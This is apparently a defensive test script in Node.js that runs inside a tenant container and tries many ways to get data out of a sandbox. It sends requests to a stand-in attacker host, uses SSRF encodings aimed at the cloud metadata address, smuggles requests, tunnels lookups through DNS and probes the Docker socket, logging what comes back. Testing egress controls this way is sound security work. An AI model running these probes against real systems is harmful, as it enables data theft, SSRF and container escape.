// Runs inside a tenant's container and tries to get a message out. One JSON line per try: what was tried and what came
// back. Judging is the caller's; nothing here knows what should be blocked.
import dgram from 'node:dgram';
import dns from 'node:dns';
import { existsSync, readdirSync } from 'node:fs';
import net from 'node:net';
import tls from 'node:tls';

const { tenant, other, port, hostPort, hostAddresses, sockets, allowed } = JSON.parse(process.env.CANARY);
const waitMs = 4_000;

function say(channel, what, came) {
  process.stdout.write(
    `${JSON.stringify({ channel, what, came: String(came).replaceAll(/\s+/g, ' ').slice(0, 400) })}\n`,
  );
}

/** Sends bytes on a connection and resolves with what came back, or why nothing did. */
function exchange(socket, bytes, untilText = null) {
  return new Promise((resolve) => {
    let got = '';
    const done = (why) => {
      socket.destroy();
      resolve(got === '' ? why : got);
    };
    const timer = setTimeout(() => done('nothing in time'), waitMs);
    socket.on('connect', () => socket.write(bytes));
    socket.on('secureConnect', () => socket.write(bytes));
    socket.on('data', (chunk) => {
      got += chunk.toString('latin1');
      if (untilText !== null && got.includes(untilText)) done('');
    });
    socket.on('error', (error) => (clearTimeout(timer), done(`no: ${error.code ?? error.message}`)));
    socket.on('close', () => (clearTimeout(timer), done('closed')));
  });
}

const get = (host, path = '/canary', more = '') =>
  `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${more}Connection: close\r\n\r\n`;
const plain = (dial, bytes, at = 80) => exchange(net.connect({ host: dial, port: at }), bytes);
const secure = (dial, servername, bytes) =>
  exchange(tls.connect({ host: dial, port: 443, servername, rejectUnauthorized: false }), bytes);

// The control: what is allowed does get out, so the rest is not blocked by accident.
say('control', `http ${allowed}`, await plain(allowed, get(allowed)));
say('control', `https ${allowed}`, await secure(allowed, allowed, get(allowed)));

const hosts = [
  'attacker.example.com',
  'ATTACKER.example.COM.',
  'xn--bcher-kva.example.com',
  `x@${allowed}`,
  `${allowed}@attacker.net`,
  '127.0.0.1',
  '127.1',
  '2130706433',
  '0x7f000001',
  '0177.0.0.1',
  '0',
  '0.0.0.0',
  '10.0.0.1',
  '172.16.0.1',
  '192.168.1.1',
  '100.64.0.1',
  '169.254.169.254',
  '2852039166',
  '0xa9fea9fe',
  '0251.0376.0251.0376',
  '224.0.0.1',
  '255.255.255.255',
  '8.8.8.8',
  '[::1]',
  '[::]',
  '[::ffff:127.0.0.1]',
  '[::ffff:7f00:1]',
  '[::127.0.0.1]',
  '[64:ff9b::7f00:1]',
  '[2002:7f00:1::1]',
  '[fe80::1]',
  '[fe80::1%25lo]',
  '[fc00::1]',
  '[fd00:ec2::254]',
  '[2606:4700:4700::1111]',
  'localhost',
  'a.localhost',
  'localhost.',
  'metadata.google.internal',
  'metadata',
  'instance-data',
  'printer.local',
  'router.lan',
  'hidden.onion',
  '127.0.0.1.nip.io',
  'a.trycloudflare.com',
  'api.cloudflare.com',
  'x.r2.cloudflarestorage.com',
  `${tenant}.localhost`,
  `${other}.localhost`,
  `${other}.localhost:${port}`,
  'hooks.localhost',
  'browser.tidepool.internal',
  'other.tidepool.internal',
  'tidepool.internal',
  'r2.internal',
  `localhost:${port}`,
  `127.0.0.1:${hostPort}`,
  `${allowed}:8080`,
  `${allowed}:443`,
];
for (const host of hosts) {
  say('http, Host header', host, await plain(allowed, get(host)));
  if (!host.includes('[') && !host.includes('@'))
    say('http, by name', host, await plain(host.replace(/:\d+$/, ''), get(host)));
  say('https, Host header', host, await secure(allowed, allowed, get(host)));
}
for (const name of ['attacker.example.com', '127.0.0.1.nip.io', `${other}.localhost`])
  say('https, SNI', name, await secure(allowed, name, get(name)));
say('https, SNI and Host differ', 'attacker.example.com', await secure(allowed, allowed, get('attacker.example.com')));

const absolute = `GET http://attacker.example.com/canary HTTP/1.1\r\nHost: ${allowed}\r\nConnection: close\r\n\r\n`;
say('proxy', 'absolute form', await plain(allowed, absolute));
say(
  'proxy',
  'CONNECT through an allowed host',
  await plain(allowed, `CONNECT attacker.example.com:443 HTTP/1.1\r\nHost: attacker.example.com:443\r\n\r\n`),
);
for (const at of [3128, 8080, 1080, 9050]) say('proxy', `port ${at}`, await plain(allowed, get(allowed), at));
say(
  'methods',
  `POST ${allowed}`,
  await plain(
    allowed,
    `POST /canary HTTP/1.1\r\nHost: ${allowed}\r\nContent-Length: 6\r\nConnection: close\r\n\r\nsecret`,
  ),
);
say('methods', `TRACE ${allowed}`, await plain(allowed, get(allowed).replace('GET', 'TRACE')));
say(
  'methods',
  `PUT ${allowed}`,
  await plain(allowed, `PUT /canary HTTP/1.1\r\nHost: ${allowed}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`),
);

const second = get('attacker.example.com', '/second');
say(
  'one connection',
  'allowed, then not',
  await exchange(net.connect({ host: allowed, port: 80 }), get(allowed).replace('Connection: close\r\n', '') + second),
);
say(
  'one connection',
  'two Host headers',
  await plain(
    allowed,
    `GET /canary HTTP/1.1\r\nHost: ${allowed}\r\nHost: attacker.example.com\r\nConnection: close\r\n\r\n`,
  ),
);
say(
  'one connection',
  'a length and chunks',
  await plain(
    allowed,
    `POST /canary HTTP/1.1\r\nHost: ${allowed}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${second}`,
  ),
);

const upgrade = 'Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n';
for (const host of ['attacker.example.com', '127.0.0.1', `${other}.localhost`, allowed])
  say(
    'WebSocket',
    host,
    await plain(allowed, get(host, '/canary', upgrade).replace('Connection: close', 'Connection: Upgrade')),
  );

// The client follows what an allowed host says, as most do.
for (const to of [
  'http://169.254.169.254/latest/meta-data/',
  `http://${other}.localhost/`,
  'http://attacker.example.com/',
]) {
  const answer = await plain(allowed, get(allowed, `/redirect?to=${encodeURIComponent(to)}`));
  const next = /^location: (.*)$/im.exec(answer)?.[1]?.trim();
  say(
    'redirect',
    to,
    next === undefined
      ? `not redirected: ${answer}`
      : await plain(allowed, get(new URL(next).host, new URL(next).pathname)),
  );
}

for (const address of hostAddresses) {
  say('TCP to the host machine', `${address}:${hostPort}`, await plain(address, get('x'), hostPort));
  say('TCP to the platform', `${address}:${port}`, await plain(address, get('localhost'), port));
}
for (const [address, at] of [
  ['8.8.8.8', 53],
  ['1.1.1.1', 443],
  ['1.1.1.1', 853],
  ['8.8.8.8', 22],
  ['8.8.8.8', 25],
  ['2606:4700:4700::1111', 443],
])
  say('raw TCP', `${address}:${at}`, await plain(address, 'secret\r\n', at));
say('not HTTP on 443', allowed, await plain(allowed, 'SSH-2.0-canary\r\n', 443));
say('not HTTP on 80', allowed, await plain(allowed, 'EHLO canary\r\n', 80));

function udp(address, at) {
  return new Promise((resolve) => {
    const socket = dgram.createSocket(address.includes(':') ? 'udp6' : 'udp4');
    const done = (came) => (clearTimeout(timer), socket.close(), resolve(came));
    const timer = setTimeout(() => done('nothing in time'), 1_000);
    socket.on('message', (message) => done(message.toString('latin1')));
    socket.on('error', (error) => done(`no: ${error.code}`));
    socket.send('canary', at, address, (error) => error && done(`no: ${error.code}`));
  });
}
for (const address of [...hostAddresses, '8.8.8.8', '255.255.255.255', '224.0.0.251', '2001:4860:4860::8888'])
  say('UDP', `${address}:${hostPort}`, await udp(address, hostPort));

async function resolve(server, type) {
  const resolver = new dns.promises.Resolver({ timeout: 1_000, tries: 1 });
  if (server !== null) resolver.setServers([server]);
  return resolver.resolve(`secret-${type.toLowerCase()}.attacker.example.com`, type).then(
    (records) => JSON.stringify(records),
    (error) => `no: ${error.code}`,
  );
}
for (const type of ['A', 'TXT', 'MX', 'CNAME', 'NS', 'SRV'])
  say('DNS', `own resolver, ${type}`, await resolve(null, type));
for (const server of ['8.8.8.8', '1.1.1.1']) say('DNS', `${server}, TXT`, await resolve(server, 'TXT'));

for (const file of [
  ...sockets,
  '/var/run/docker.sock',
  '/run/docker.sock',
  '/run/containerd/containerd.sock',
  '/run/dbus/system_bus_socket',
])
  say(
    'sockets',
    file,
    existsSync(file) ? await exchange(net.connect(file), 'GET /_ping HTTP/1.0\r\n\r\n') : 'no: not there',
  );
for (const dir of ['/run', '/tmp', '/var/run']) {
  const found = existsSync(dir)
    ? readdirSync(dir, { recursive: true }).filter((name) => /sock/.test(String(name)))
    : [];
  say('sockets', `in ${dir}`, found.length === 0 ? 'no: none' : found.join(' '));
}
for (const path of ['/status', '/snapshot', '/gateway/stop'])
  say('keeper', path, await plain('127.0.0.1', get('127.0.0.1', path), 18_700));
say('gateway', 'as nobody', await plain('127.0.0.1', get('127.0.0.1', '/api/sessions'), 18_789));
say(
  'own hosts',
  'tenant.tidepool.internal/other',
  await plain('tenant.tidepool.internal', get('tenant.tidepool.internal', '/other')),
);
say(
  'own hosts',
  'ai.tidepool.internal/other',
  await plain('ai.tidepool.internal', get('ai.tidepool.internal', '/other')),
);
say(
  'own hosts',
  'another run claimed',
  await plain('ai.tidepool.internal', get('ai.tidepool.internal', '/other', 'x-tidepool-internal-incarnation: 99\r\n')),
);
